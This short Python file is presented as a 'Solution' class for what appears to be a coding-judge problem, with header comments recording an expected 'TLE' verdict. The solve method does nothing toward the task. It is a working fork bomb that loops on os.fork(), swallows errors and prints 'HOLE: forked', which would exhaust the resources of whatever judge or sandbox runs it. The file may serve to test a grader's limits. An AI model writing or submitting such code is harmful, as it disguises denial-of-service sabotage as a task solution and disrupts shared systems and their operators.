# tries: to become as many as possible, taking no refusal
# verdict: TLE
# within: 2.0
import os


class Solution:
    def solve(self, nums, key):
        while True:
            try:
                os.fork()
                print("HOLE: forked", flush=True)
            except OSError:
                pass
